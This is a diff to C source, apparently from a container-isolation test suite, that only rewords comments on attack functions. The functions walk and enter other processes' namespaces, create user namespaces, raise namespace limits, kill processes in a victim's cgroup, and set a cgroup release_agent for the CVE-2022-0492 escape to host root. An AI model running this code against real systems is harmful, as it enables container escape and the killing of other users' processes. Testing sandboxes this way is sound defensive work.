@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: MIT
-/* Namespaces of others, and more of the attacker's own. */
+/* Attacks by namespaces: those of other processes, and new ones. */
 #include "attack.h"
 
 #include <sched.h>
@@ -18,7 +18,7 @@ struct mnt_ns_info {
 #define GET_NEXT _IOR(0xb7, 11, struct mnt_ns_info)
 #define GET_PREV _IOR(0xb7, 12, struct mnt_ns_info)
 
-/* In a child, since a mount namespace once left may be out of reach. */
+/* Works in a child, because a process may be unable to return to its mount namespace. */
 static void enter_and_look(int ns, const char *how)
 {
 	pid_t pid = fork();
@@ -52,7 +52,7 @@ static void walk(unsigned long request, const char *how)
 		close(ns);
 }
 
-/* The user namespaces that own the attacker's namespaces, and the ones above. */
+/* Tries the user namespaces that own the attacker's namespaces, and their parents. */
 static void try_owners(void)
 {
 	static const char *const types[] = { "mnt", "pid", "uts", "ipc", "cgroup", "net", "user" };
@@ -79,7 +79,7 @@ static void try_walks(void)
 	walk(GET_NEXT, "NS_MNT_GET_NEXT");
 }
 
-/* The same once more from a mount namespace of the attacker's own, which is the youngest then. */
+/* Tries again from a new mount namespace, which is then the youngest. */
 void attack_neighbours(char **args)
 {
 	(void)args;
@@ -106,8 +106,8 @@ static void write_to(const char *directory, const char *file, const char *text)
 }
 
 /*
- * A user namespace below this one: it gives the attacker all of the kernel's surface that needs
- * capabilities. Two processes stay, one of them in it.
+ * Makes a user namespace below this one. In it the attacker can make all calls of the kernel that
+ * require capabilities. Two processes stay, and one of them is in that namespace.
  */
 void attack_userns(char **args)
 {
@@ -117,7 +117,7 @@ void attack_userns(char **args)
 	if (fork() == 0)
 		for (;;)
 			pause();
-	/* A limit that the attacker can raise is none. */
+	/* The limit is useless if the attacker can raise it. */
 	write_to(limit, "max_user_namespaces", "1000");
 	mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
 	write_to(limit, "max_user_namespaces", "1000");
@@ -128,8 +128,7 @@ void attack_userns(char **args)
 
 /* ---- cgroups ---- */
 
-/* Of a cgroup filesystem that is shown read-only: writable, then all that is in the victim's group is
- * killed. */
+/* Makes a read-only cgroup filesystem writable, and kills all processes of the victim's group. */
 static void kill_group(const char *place, const char *group)
 {
 	char path[4352];
@@ -141,8 +140,8 @@ static void kill_group(const char *place, const char *group)
 }
 
 /*
- * In a cgroup filesystem of the attacker's own, whose top is the cgroup that the container was started
- * in, together with the caller.
+ * Does the same in a new cgroup filesystem. Its top is the cgroup in which the container was started,
+ * and the caller is in that, too.
  */
 static void kill_by_new(char **groups, int namespaces)
 {
@@ -174,9 +173,9 @@ void attack_cgroup(char **args)
 	kill_by_new(args, 0);
 	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS);
 	kill_by_new(args, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
-	usleep(100000); /* who is killed ends in its own time */
+	usleep(100000); /* killed processes need some time to exit */
 	mkdir("/tmp/cgroup", 0755);
-	/* CVE-2022-0492: the host's root executes what is named here. */
+	/* CVE-2022-0492: the kernel executes this file as the host's root. */
 	if (mount("none", "/tmp/cgroup", "cgroup", 0, "pids") == 0)
 		write_to("/tmp/cgroup", "release_agent", "/mnt/img/agent");
 }
